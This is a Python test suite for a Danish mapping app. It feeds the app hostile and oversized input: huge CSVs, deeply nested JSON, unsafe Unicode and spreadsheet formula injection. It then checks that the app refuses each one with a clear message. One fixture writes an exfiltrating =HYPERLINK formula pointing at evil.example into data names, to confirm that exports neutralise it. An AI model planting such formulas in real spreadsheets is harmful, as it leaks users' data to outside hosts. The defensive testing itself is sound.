"""Hostile and huge input (issue 12): each attack that failed before has a test here, which
asserts the fixed behaviour: a message naming the file, the row and the field; nothing saved;
no traceback in the app (AppTest) or the command line; bounded time and memory.

The rows of the issue's table are marked ``#1`` … ``#11``.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import time
import tracemalloc
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from klyngekort.cli.main import main
from klyngekort.core import limits
from klyngekort.core.loading import check_replacement, load_dataset
from klyngekort.core.travel import read_travel_times
from klyngekort.present.export import neutralise, safe_table, to_csv_bytes, to_xlsx_bytes
from klyngekort.present.mapview import MAX_MARKER_PX, legend_html, marker_size
from klyngekort.present.wording import issue_text
from klyngekort.scenarios.store import InvalidScenarioError, ScenarioStore
from tests.conftest import ROOT, open_page

DATA = ROOT / "data"
FORMULA = re.compile(r"^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
NO_INTERNAL = ("Traceback", "internal error", "intern fejl")


def run(capsys, *argv: object) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    assert not any(x in err or x in out for x in NO_INTERNAL), err[-2000:]
    return code, out, err


def dataset_copy(tmp_path: Path) -> Path:
    dest = tmp_path / "data"
    shutil.copytree(DATA, dest, ignore=shutil.ignore_patterns("example", "*.xlsx", "__pycache__"))
    return dest


def rewrite(path: Path, change) -> None:
    """Rewrite a data CSV: ``change(rows)`` edits the list of dicts in place."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        reader = csv.DictReader(fh)
        fields = list(reader.fieldnames or [])
        rows = list(reader)
    change(rows)
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fields)
        w.writeheader()
        w.writerows(rows)


def travel_header() -> str:
    return "from_kommunekode,to_kommunekode,minutes\n"


# --------------------------------------------------------------------------- 1: inert exports


def formula_names(root: Path) -> None:
    """Every cluster and hub name a formula (unique, so the data is valid)."""

    def clusters(rows):
        for i, r in enumerate(rows):
            r["name"] = f'=HYPERLINK("http://evil.example/?d="&A2,"K{i}")'
            r["short_name"] = f"=1+{i}"

    def hubs(rows):
        for i, r in enumerate(rows):
            r["name"] = f"@SUM(A1:A{i + 2})"

    rewrite(root / "clusters.csv", clusters)
    rewrite(root / "hubs.csv", hubs)


def assert_inert_xlsx(data: bytes) -> int:
    """No formula cell, no text cell or sheet name that starts a formula; the number of cells."""
    z = zipfile.ZipFile(io.BytesIO(data))
    n = 0
    for name in z.namelist():
        xml = z.read(name).decode("utf-8")
        assert "<f>" not in xml and "<f " not in xml, name
    book = pd.read_excel(io.BytesIO(data), sheet_name=None, header=None, dtype=object)
    for sheet, frame in book.items():
        assert not FORMULA.match(str(sheet)), sheet
        for v in frame.to_numpy().ravel():
            if isinstance(v, str):
                n += 1
                assert not FORMULA.match(v), (sheet, v)
    return n


def assert_inert_csv(data: bytes) -> None:
    text = data.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not FORMULA.match(cell), cell
            for piece in cell.split(";")[1:]:  # Danish Excel may split on ';'
                assert not FORMULA.match(piece.lstrip(" \t")), cell


def test_neutralise_headers_index_cells_and_pieces_after_semicolons():
    df = pd.DataFrame({'=HYPERLINK("x")': ["=1+1", "x;=1+1;y", "-5", 3]}, index=["@a", "b", "c", "d"])
    safe = safe_table(df)
    assert list(safe.columns) == ['\'=HYPERLINK("x")']
    assert list(safe.index) == ["'@a", "b", "c", "d"]
    assert safe.iloc[:, 0].tolist() == ["'=1+1", "x;'=1+1;y", "'-5", 3]
    assert neutralise(3.5) == 3.5 and neutralise("ok") == "ok"
    assert_inert_csv(to_csv_bytes(df))
    assert assert_inert_xlsx(to_xlsx_bytes({"=evil": df}, about=[("=a", "+b")])) > 0


@pytest.fixture()
def deferred_downloads(monkeypatch):
    """The files behind the pages' download buttons: Streamlit makes them only when clicked
    (deferred); this records each real callable as Streamlit registers it, so the test can
    produce the very bytes a click would send."""
    from streamlit.runtime.media_file_manager import MediaFileManager

    made: dict[str, object] = {}
    original = MediaFileManager.add_deferred

    def add_deferred(self, data_callable, mimetype, coordinates, file_name=None, **kw):
        made[str(file_name)] = data_callable
        return original(self, data_callable, mimetype, coordinates, file_name, **kw)

    monkeypatch.setattr(MediaFileManager, "add_deferred", add_deferred)
    return made


@pytest.mark.parametrize("page", ["pages/erhvervshus.py", "pages/sammenlign.py"])
def test_formula_names_in_every_download_of_the_pages_are_inert(
    page, tmp_path, monkeypatch, deferred_downloads
):
    """#1: Erhvervshus × klynge and Sammenlign's table use names as column headers; with every
    name a formula, no downloaded CSV or Excel file has a formula cell or header."""
    root = dataset_copy(tmp_path)
    formula_names(root)
    monkeypatch.setenv("KLYNGEKORT_DATA", str(root))
    query = {"hubs": "EHHS,EHSJ,EHFYN"} if page.endswith("sammenlign.py") else {"hub": "EHHS"}
    at = open_page(page, query)
    assert not at.exception, at.exception
    tables = [f for f in deferred_downloads if f.endswith((".csv", ".xlsx"))]
    assert len(tables) >= 2, list(deferred_downloads)
    headers_seen = False
    for name in tables:
        data = deferred_downloads[name]()
        data = data.encode("utf-8") if isinstance(data, str) else data
        if name.endswith(".csv"):
            assert_inert_csv(data)
            header = next(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
            headers_seen |= any(h.startswith(("'=1+", "'@SUM")) for h in header)
        else:
            assert assert_inert_xlsx(data) > 0
    assert headers_seen, "a table with names as headers was downloaded"


def test_formula_names_in_every_cli_table_format_are_inert(capsys, tmp_path, monkeypatch):
    root = dataset_copy(tmp_path)
    formula_names(root)
    for by in ("hub", "cluster", "gaps"):
        out_csv, out_xlsx = tmp_path / f"{by}.csv", tmp_path / f"{by}.xlsx"
        code, _, err = run(capsys, "coverage", "--data", root, "--by", by, "--out", out_csv)
        assert code == 0, err
        assert_inert_csv(out_csv.read_bytes())
        code, _, err = run(capsys, "coverage", "--data", root, "--by", by, "--out", out_xlsx)
        assert code == 0, err
        assert_inert_xlsx(out_xlsx.read_bytes())
        code, out, _ = run(capsys, "coverage", "--data", root, "--by", by)
        assert_inert_csv(out.encode("utf-8"))


# --------------------------------------------------------------------------- 2: huge data files


def huge_sites(rows: int) -> bytes:
    head = (DATA / "sites.csv").read_text(encoding="utf-8-sig").splitlines()
    body = head[1]
    return (
        "\n".join([head[0]] + [body.replace("CLEAN-SOENDERBORG", f"X{i}", 1) for i in range(rows)])
    ).encode()


def test_data_page_checker_refuses_a_huge_file_before_reading_it(places):
    """#2: a 10 MB sites.csv (the issue's was 71 MB, 1,000,000 rows) is refused at once, with
    one message that names the file and the limit, instead of 1,000,000 warnings."""
    content = huge_sites(150_000)
    assert len(content) > limits.get_int("data_file_bytes")
    t0 = time.perf_counter()
    found = check_replacement(DATA, "sites.csv", content, places=places)
    assert time.perf_counter() - t0 < 1.0
    assert [i.code for i in found] == ["data.file_too_large"]
    assert issue_text(found[0]).startswith("sites.csv::: filen er ")
    assert "KLYNGEKORT_LIMIT_DATA_FILE_BYTES" in issue_text(found[0])


def test_too_many_rows_stop_the_reading_at_the_row(places, monkeypatch):
    monkeypatch.setenv("KLYNGEKORT_LIMIT_DATA_ROWS", "100")
    found = check_replacement(DATA, "sites.csv", huge_sites(500), places=places)
    over = [i for i in found if i.code == "data.too_many_rows" and i.file.endswith("sites.csv")]
    assert len(over) == 1 and over[0].line == 102
    assert "flere end 100 rækker" in issue_text(over[0])


def test_validate_prints_a_bounded_number_of_messages(capsys, tmp_path):
    """#2: 4,000 rows with the same error give 20 lines and "… og 3.980 flere af samme slags"."""
    root = dataset_copy(tmp_path)

    def bad_codes(rows):
        template = dict(rows[0])
        rows.clear()
        for i in range(4_000):
            rows.append({**template, "site_id": f"S{i}", "kommunekode": "x9"})

    rewrite(root / "sites.csv", bad_codes)
    t0 = time.perf_counter()
    code, out, _err = run(capsys, "validate", "--data", root)
    assert code == 1 and time.perf_counter() - t0 < 30
    lines = [x for x in out.splitlines() if ":kommunekode: " in x]
    assert len(lines) == limits.get_int("messages_per_kind")
    assert lines[0].startswith("data/sites.csv:2:kommunekode: ")
    assert "sites.csv::: … og 3.980 flere af samme slags" in out
    assert len(out) < 20_000


# --------------------------------------------------------------------------- 3–5: travel-time tables


def test_travel_table_with_a_field_past_the_csv_limit_is_a_message(tmp_path, capsys):
    """#3: one field over 131,072 characters: not `_csv.Error` but a message at its line."""
    f = tmp_path / "tt.csv"
    f.write_text(travel_header() + "0101,0101,0\n0101,0147," + "9" * 200_000 + "\n", encoding="utf-8")
    res = read_travel_times(f)
    assert res.travel_times is None
    assert [(i.line, i.code) for i in res.errors] == [(3, "tt.field_too_long")]
    code, out, err = run(capsys, "coverage", "--minutes", "30", "--travel-times", f)
    assert code == 1 and out == ""
    assert "tt.csv:3:" in err and "længere end 4.000 tegn" in err


def test_travel_field_within_the_csv_limit_but_past_ours_names_the_field(tmp_path):
    f = tmp_path / "tt.csv"
    f.write_text(travel_header() + "0101,0101," + "1" * 5_000 + "\n", encoding="utf-8")
    res = read_travel_times(f)
    assert [(i.line, i.field, i.code) for i in res.errors] == [(2, "minutes", "tt.field_too_long")]


def test_travel_table_with_10000_codes_builds_no_dense_matrix(tmp_path, capsys):
    """#4: 10,000 distinct codes in 120 KB: refused at the 201st code, in bounded memory."""
    f = tmp_path / "tt.csv"
    f.write_text(travel_header() + "".join(f"{i:04d},{i:04d},0\n" for i in range(10_000)), encoding="utf-8")
    tracemalloc.start()
    res = read_travel_times(f)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 20_000_000
    assert [i.code for i in res.errors] == ["tt.too_many_codes"]
    assert res.errors[0].line == 2 + limits.get_int("travel_codes")
    code, _, err = run(capsys, "coverage", "--minutes", "30", "--travel-times", f)
    assert code == 1 and "flere end 200 forskellige kommunekoder" in err


def test_travel_table_is_built_over_the_known_municipalities_only(tmp_path):
    f = tmp_path / "tt.csv"
    f.write_text(travel_header() + "0101,0101,0\n0101,0147,12\n9999,0101,5\n0147,9998,7\n", encoding="utf-8")
    res = read_travel_times(f, known_codes={"0101", "0147"})
    assert res.ok and res.travel_times is not None
    assert res.travel_times.codes == ("0101", "0147") and res.travel_times.pairs == 2
    assert sorted(i.params["value"] for i in res.issues if i.code == "tt.unknown_code") == ["9998", "9999"]


def test_a_50_mb_travel_table_is_refused_before_it_is_read(tmp_path):
    """#5: the size is checked before a byte is read (a sparse file of 50 MB)."""
    f = tmp_path / "big.csv"
    with f.open("wb") as fh:
        fh.write(travel_header().encode())
        fh.truncate(50_000_000)
    t0 = time.perf_counter()
    res = read_travel_times(f)
    assert time.perf_counter() - t0 < 0.5
    assert [(i.code, i.file) for i in res.errors] == [("tt.file_too_large", "big.csv")]


def test_travel_minutes_beyond_a_day_and_huge_numbers_are_refused(tmp_path):
    f = tmp_path / "tt.csv"
    f.write_text(travel_header() + "0101,0101,1e400\n0101,0147,100000\n", encoding="utf-8")
    res = read_travel_times(f)
    assert [(i.line, i.field, i.code) for i in res.errors] == [
        (2, "minutes", "tt.minutes_negative"),
        (3, "minutes", "tt.minutes_too_large"),
    ]


def test_the_app_caches_travel_tables_within_a_byte_budget(monkeypatch):
    from klyngekort.ui import coverage as ui_cov

    monkeypatch.setenv("KLYNGEKORT_LIMIT_TRAVEL_CACHE_BYTES", "200000")
    ui_cov._TT_CACHE.clear()
    codes = tuple(f"{i:04d}" for i in range(100, 190))
    for k in range(6):
        data = (travel_header() + "".join(f"{c},{c},{k}\n" for c in codes)).encode()
        res = ui_cov._travel_times(f"sha{k}", "tt.csv", data, codes)
        assert res.ok
    held = sum(n for n, _ in ui_cov._TT_CACHE.values())
    assert held <= 200_000 and 1 <= len(ui_cov._TT_CACHE) < 6
    ui_cov._TT_CACHE.clear()


# --------------------------------------------------------------------------- 6–8: scenarios

SCENARIO = {"format": "klyngekort-scenario", "format_version": 1, "name": "Hostile", "changes": []}


def write_json(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def test_lone_surrogate_in_a_scenario_name_is_a_message_and_nothing_is_saved(tmp_path, capsys):
    """#6: ``"\\ud800"`` as a name (JSON escape): refused with a message, not UnicodeEncodeError."""
    db = tmp_path / "s.sqlite3"
    store = ScenarioStore(db)
    with pytest.raises(InvalidScenarioError) as exc:
        store.create("Plan \ud800")
    assert "U+D800" in str(exc.value)
    with pytest.raises(InvalidScenarioError):
        store.create("Plan", author="x\ud800")
    assert store.list() == []
    f = write_json(tmp_path / "s.json", json.dumps({**SCENARIO, "name": "a\ud800"}))
    code, out, err = run(capsys, "scenario", "import", f, "--db", db)
    assert code == 1 and out == ""
    assert f"{f}:1:name: navnet indeholder tegnet U+D800" in err and "intet blev gemt" in err
    assert store.list() == []


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u200b", "\ufeff"])
def test_bidi_overrides_and_zero_width_characters_are_refused_in_names(char, tmp_path, places):
    store = ScenarioStore(tmp_path / "s.sqlite3")
    with pytest.raises(InvalidScenarioError):
        store.create(f"Plan{char}B")
    root = dataset_copy(tmp_path)
    rewrite(root / "clusters.csv", lambda rows: rows[0].update(name=f"CLEAN{char}Evil"))
    res = load_dataset(root, places=places)
    bad = [i for i in res.errors if i.code == "data.unsafe_character"]
    assert [(i.file, i.line, i.field) for i in bad] == [("data/clusters.csv", 2, "name")]
    assert res.dataset is None


def test_a_huge_number_of_persons_is_refused_and_nothing_is_saved(tmp_path, capsys):
    """#7: ``persons`` = 10^400 was accepted and crashed the before/after view."""
    db = tmp_path / "s.sqlite3"
    change = (
        '{"kind": "add_secondment", "cluster_id": "CLEAN", "hub_id": "EHHS", "persons": 1' + "0" * 400 + "}"
    )
    f = write_json(tmp_path / "p.json", json.dumps(SCENARIO)[:-3] + "[\n" + change + "\n]}")
    code, out, err = run(capsys, "scenario", "import", f, "--db", db)
    assert code == 1 and out == ""
    assert f"{f}:2:persons: ændring 1: persons = 1.00000e400 er uden for 0–1.000" in err
    assert not db.exists() or ScenarioStore(db).list() == []


def test_json_nested_100000_deep_is_a_message(tmp_path, capsys):
    """#8: the CLI printed "internal error: RecursionError"."""
    f = write_json(tmp_path / "deep.json", '{"changes": ' + "[" * 100_000 + "]" * 100_000 + "}")
    code, out, err = run(capsys, "scenario", "import", f, "--db", tmp_path / "s.sqlite3")
    assert code == 1 and out == ""
    assert f"{f}::: JSON er indlejret mere end 20 niveauer" in err


# --------------------------------------------------------------------------- 9–11: data content


def test_duplicate_short_names_and_hub_names_are_refused(tmp_path, places):
    """#9: two clusters with the same short_name, two hubs with the same name."""
    root = dataset_copy(tmp_path)
    rewrite(root / "clusters.csv", lambda rows: rows[1].update(short_name=rows[0]["short_name"]))
    rewrite(root / "hubs.csv", lambda rows: rows[1].update(name=rows[0]["name"]))
    res = load_dataset(root, places=places)
    assert res.dataset is None
    dup = sorted((i.file, i.line, i.field) for i in res.errors if i.code == "data.duplicate")
    assert dup == [("data/clusters.csv", 3, "short_name"), ("data/hubs.csv", 3, "name")]
    text = issue_text(next(i for i in res.errors if i.field == "short_name"))
    assert text == "data/clusters.csv:3:short_name: short_name 'CLEAN' står to gange (første gang på linje 2)"


def test_the_app_keeps_the_last_good_data_on_duplicate_names(tmp_path, monkeypatch):
    root = dataset_copy(tmp_path)
    rewrite(root / "clusters.csv", lambda rows: rows[1].update(short_name=rows[0]["short_name"]))
    monkeypatch.setenv("KLYNGEKORT_DATA", str(root))
    for page in ("pages/erhvervshus.py", "pages/sammenlign.py"):
        at = open_page(page)
        assert not at.exception, at.exception
        shown = "\n".join(c.value for c in at.code)
        assert "clusters.csv:3:short_name:" in shown


def test_long_names_are_refused_and_legends_shorten_them(tmp_path, places):
    """#10: names of 3,000–10,000 characters made the legend cover the map."""
    root = dataset_copy(tmp_path)
    rewrite(root / "clusters.csv", lambda rows: rows[0].update(name="N" * 3_000))
    rewrite(root / "hubs.csv", lambda rows: rows[0].update(name="H" * 10_000))
    res = load_dataset(root, places=places)
    long = sorted(
        (i.file, i.line, i.field)
        for i in res.errors
        if i.code in ("data.name_too_long", "data.field_too_long")
    )
    assert long == [("data/clusters.csv", 2, "name"), ("data/hubs.csv", 2, "name")]
    from klyngekort.present.mapview import LegendEntry

    html = legend_html([LegendEntry("headquarters", "#123456", "L" * 150)])
    assert "L" * 39 + "…" in html and f'title="{"L" * 150}"' in html


def test_a_million_seconded_persons_is_refused_and_markers_are_capped(tmp_path, places):
    """#11: a secondment of 1,000,000 persons drew a 7,016 px marker."""
    root = dataset_copy(tmp_path)
    line = "SEC-X,CLEAN,EHHS,1000000,,2021,,https://example.org,,,low,\n"
    with (root / "secondments.csv").open("a", encoding="utf-8") as fh:
        fh.write(line)
    res = load_dataset(root, places=places)
    bad = [i for i in res.errors if i.code == "data.number_too_large"]
    assert [(i.file, i.line, i.field) for i in bad] == [("data/secondments.csv", 2, "persons")]
    assert "1000000 er større end grænsen 1.000 (KLYNGEKORT_LIMIT_PERSONS)" in issue_text(bad[0])
    assert marker_size("secondment", 1_000_000) == MAX_MARKER_PX
    assert marker_size("secondment", 2) < MAX_MARKER_PX


def test_ten_thousand_sites_are_refused_at_the_row_limit(tmp_path, places, monkeypatch):
    """#11: 10,000 sites made the pages take 13–17 s; the row limit stops them at 5,000."""
    content = huge_sites(10_000)
    found = check_replacement(DATA, "sites.csv", content, places=places)
    assert [i.code for i in found if i.severity == "error"] == ["data.too_many_rows"]


# --------------------------------------------------------------------------- other findings


def test_reading_commands_never_create_a_database(tmp_path, capsys):
    missing = tmp_path / "nonexistent" / "x" / "y.sqlite3"
    code, _, err = run(capsys, "scenario", "list", "--db", missing)
    assert code == 1 and "findes ikke; intet blev oprettet" in err
    for cmd in ("show", "export", "delete"):
        code, _, err = run(capsys, "scenario", cmd, "Plan", "--db", missing)
        assert code == 1 and "findes ikke" in err
    assert not (tmp_path / "nonexistent").exists()


def test_limits_are_printed_and_can_be_changed(capsys, monkeypatch, tmp_path):
    code, out, _ = run(capsys, "limits")
    assert code == 0
    for name in limits.LIMITS:
        assert re.search(rf"^{name}\s", out, re.M), name
    monkeypatch.setenv("KLYNGEKORT_LIMIT_DATA_ROWS", "12")
    settings = tmp_path / "klyngekort.toml"
    settings.write_text("[limits]\nname_chars = 50\n", encoding="utf-8")
    monkeypatch.setenv("KLYNGEKORT_SETTINGS", str(settings))
    assert limits.get_int("data_rows") == 12 and limits.source("data_rows") == "env"
    assert limits.get_int("name_chars") == 50 and limits.source("name_chars") == "settings"
    code, out, _ = run(capsys, "limits", "--lang", "en")
    assert re.search(r"^data_rows\s+12\s+KLYNGEKORT_LIMIT_DATA_ROWS\s+env\s+most rows", out, re.M)


def test_streamlit_upload_size_matches_the_limit():
    from klyngekort.cli.run import server_command

    text = (ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8")
    assert f"maxUploadSize = {limits.get_int('upload_mb')}" in text
    assert f"--server.maxUploadSize={limits.get_int('upload_mb')}" in server_command([])


def test_messages_are_capped_per_kind_with_a_summary():
    from klyngekort.core.model import Issue

    issues = [Issue("a.csv", i, "x", "data.bad_id", {"value": str(i)}) for i in range(2, 1_000_002)]
    issues.append(Issue("a.csv", 5, "y", "data.html", severity="warning"))
    capped = limits.cap_issues(issues)
    assert len(capped) == 22
    assert issue_text(capped[20]) == "a.csv::: … og 999.980 flere af samme slags"
    assert capped[21].code == "data.html"


# --------------------------------------------------------------------------- the app (AppTest)


def shown_code(at) -> str:
    return "\n".join(c.value for c in at.code)


def test_app_travel_upload_with_a_huge_field_is_a_message_not_a_traceback():
    """#3 in the app: `_csv.Error: field larger than field limit` was a traceback."""
    at = open_page("pages/daekning.py", {"crit": "min"})
    data = (travel_header() + "0101,0101,0\n0101,0147," + "9" * 200_000 + "\n").encode()
    at.file_uploader(key="cov_tt_upload").set_value(("tt.csv", data, "text/csv")).run()
    assert not at.exception, at.exception
    assert any("rejsetid" in e.value.lower() for e in at.error), [e.value for e in at.error]
    assert "tt.csv:3:: feltet er længere end 4.000 tegn" in shown_code(at)


def test_app_travel_upload_with_10000_codes_is_refused():
    """#4 in the app: the 10,000-code table built an 800 MB matrix in the server."""
    at = open_page("pages/daekning.py", {"crit": "min"})
    data = (travel_header() + "".join(f"{i:04d},{i:04d},0\n" for i in range(10_000))).encode()
    at.file_uploader(key="cov_tt_upload").set_value(("tt.csv", data, "text/csv")).run()
    assert not at.exception, at.exception
    assert "flere end 200 forskellige kommunekoder" in shown_code(at)


def test_app_data_checker_refuses_a_huge_file_and_caps_its_messages():
    """#2 in the app: 1,000,000 warnings (84 M characters) were sent to the browser."""
    at = open_page("pages/data.py")
    at.file_uploader(key="check_upload").set_value(("sites.csv", huge_sites(80_000), "text/csv")).run()
    assert not at.exception, at.exception
    assert "sites.csv::: filen er" in shown_code(at)
    head = (DATA / "sites.csv").read_text(encoding="utf-8-sig").splitlines()[0]
    row = "X{},CLEAN,local_office,Sønderborg,,x9,,no,2021,,,,,town,,https://x.dk,,,high,\n"
    bad = (head + "\n" + "".join(row.format(i) for i in range(3_000))).encode()
    at.file_uploader(key="check_upload").set_value(("sites.csv", bad, "text/csv")).run()
    assert not at.exception, at.exception
    text = shown_code(at)
    assert text.count(":kommunekode: ") == limits.get_int("messages_per_kind")
    assert "… og 2.980 flere af samme slags" in text and len(text) < 20_000


@pytest.mark.parametrize(
    ("name", "doc", "expected"),
    [
        (
            "surrogate.json",
            json.dumps({**SCENARIO, "name": "a\ud800"}),
            "surrogate.json:1:name: navnet indeholder",
        ),
        (
            "persons.json",
            json.dumps(SCENARIO)[:-3]
            + '[{"kind": "add_secondment", "cluster_id": "CLEAN", "hub_id": "EHHS", "persons": 1'
            + "0" * 400
            + "}]}",
            "persons.json:1:persons: ændring 1: persons = 1.00000e400 er uden for",
        ),
        ("deep.json", '{"changes": ' + "[" * 100_000 + "]" * 100_000 + "}", "deep.json::: JSON er indlejret"),
    ],
)
def test_app_scenario_import_of_hostile_files_saves_nothing(name, doc, expected, tmp_path, monkeypatch):
    """#6–#8 in the app: the import shows the problem at file:line:field and saves nothing."""
    db = tmp_path / "s.sqlite3"
    monkeypatch.setenv("KLYNGEKORT_DB", str(db))
    at = open_page("pages/planlaegning.py")
    at.get("file_uploader")[0].upload(name, doc.encode("utf-8", "surrogatepass"), "application/json").run()
    at.button(key="pl_import_btn").click().run()
    assert not at.exception, at.exception
    assert expected in shown_code(at)
    assert ScenarioStore(db).list() == []


def test_app_refuses_a_bidi_override_in_a_new_scenario_name(tmp_path, monkeypatch):
    db = tmp_path / "s.sqlite3"
    monkeypatch.setenv("KLYNGEKORT_DB", str(db))
    at = open_page("pages/planlaegning.py")
    at.text_input(key="pl_new_name").input("Plan\u202eB")
    at.button(key="pl_create_btn").click().run()
    assert not at.exception, at.exception
    assert any("U\\+202E" in e.value for e in at.error), [e.value for e in at.error]  # markdown-escaped
    assert ScenarioStore(db).list() == []
